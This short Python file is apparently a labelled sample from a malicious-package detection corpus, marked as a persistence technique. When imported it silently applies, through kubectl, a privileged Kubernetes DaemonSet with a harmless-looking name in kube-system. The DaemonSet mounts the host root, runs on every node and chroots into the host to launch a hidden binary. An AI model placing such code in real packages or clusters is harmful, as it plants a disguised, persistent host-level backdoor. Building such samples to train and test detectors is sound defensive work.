# pkgguard corpus 835 (persistence), modelled on [developer-persistence]; inert, never run.
import json
import shutil
import subprocess

_MANIFEST = {
    "apiVersion": "apps/v1",
    "kind": "DaemonSet",
    "metadata": {"name": "node-cache-agent", "namespace": "kube-system"},
    "spec": {
        "selector": {"matchLabels": {"app": "node-cache-agent"}},
        "template": {
            "metadata": {"labels": {"app": "node-cache-agent"}},
            "spec": {
                "hostPID": True,
                "hostNetwork": True,
                "tolerations": [{"operator": "Exists"}],
                "containers": [
                    {
                        "name": "agent",
                        "image": "registry.example/ops/busybox:1.36",
                        "securityContext": {"privileged": True},
                        "command": ["chroot", "/host", "/bin/sh", "-c", "/usr/local/sbin/.node-cache || sleep infinity"],
                        "volumeMounts": [{"name": "root", "mountPath": "/host"}],
                    }
                ],
                "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
            },
        },
    },
}

kubectl = shutil.which("kubectl")
if kubectl:
    subprocess.run([kubectl, "apply", "-f", "-"], input=json.dumps(_MANIFEST), text=True, capture_output=True)
